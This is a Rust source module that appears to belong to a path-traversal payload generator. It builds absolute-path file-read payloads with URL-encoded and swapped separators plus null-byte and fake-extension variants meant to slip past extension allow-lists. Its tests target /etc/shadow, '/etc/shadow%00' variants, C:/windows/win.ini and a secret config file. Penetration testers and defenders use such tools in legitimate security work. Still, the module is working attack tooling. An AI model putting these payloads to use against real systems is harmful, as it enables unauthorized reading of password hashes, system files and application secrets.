//! `absolute_path`: targets expressed as an OS-absolute path, bypassing
//! traversal-depth guessing entirely. Depth/prefix are irrelevant here;
//! the bypass is in how the absolute path itself is encoded.

use crate::constants::{FAKE_EXTENSIONS, FAKE_EXTENSION_TOP_N, NULL_ENCODINGS, NULL_ENCODING_TOP_N};
use crate::generator::{absolute_target_files, GenerateParams};

pub fn generate(params: &GenerateParams) -> Vec<String> {
    let files = absolute_target_files(params);
    let mut out = Vec::new();

    for file in &files {
        let with_ext = match &params.extension {
            Some(ext) => format!("{file}{ext}"),
            None => file.clone(),
        };
        out.push(with_ext.clone());

        // URL-encode the separators, both hex cases.
        out.push(with_ext.replace('/', "%2f").replace('\\', "%5c"));
        out.push(with_ext.replace('/', "%2F").replace('\\', "%5C"));

        // Swap separator style, Windows <-> UNIX.
        if with_ext.contains('\\') {
            out.push(with_ext.replace('\\', "/"));
        } else if with_ext.contains('/') {
            out.push(with_ext.replace('/', "\\"));
        }

        // Null-byte + fake-extension combinations, to defeat an
        // extension allow-list guarding an otherwise-absolute read.
        for null_enc in NULL_ENCODINGS.iter().take(NULL_ENCODING_TOP_N) {
            for fake_ext in FAKE_EXTENSIONS.iter().take(FAKE_EXTENSION_TOP_N) {
                out.push(format!("{file}{null_enc}{fake_ext}"));
            }
        }
    }

    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::{DetectionMethod, OsType};

    #[test]
    fn unix_includes_etc_shadow_variants() {
        let params = GenerateParams::new(OsType::Unix, 1, DetectionMethod::AbsolutePath);
        let out = generate(&params);
        assert!(out.contains(&"/etc/shadow".to_string()));
        assert!(out.iter().any(|p| p.starts_with("/etc/shadow%00")));
    }

    #[test]
    fn windows_separator_swap_is_present() {
        let params = GenerateParams::new(OsType::Windows, 1, DetectionMethod::AbsolutePath);
        let out = generate(&params);
        assert!(out.contains(&"C:/windows/win.ini".to_string()));
    }

    #[test]
    fn explicit_target_file_overrides_table() {
        let mut params = GenerateParams::new(OsType::Unix, 1, DetectionMethod::AbsolutePath);
        params.target_file = Some("/opt/app/secret.conf".to_string());
        let out = generate(&params);
        assert!(out.contains(&"/opt/app/secret.conf".to_string()));
        assert!(!out.iter().any(|p| p.contains("passwd")));
    }
}
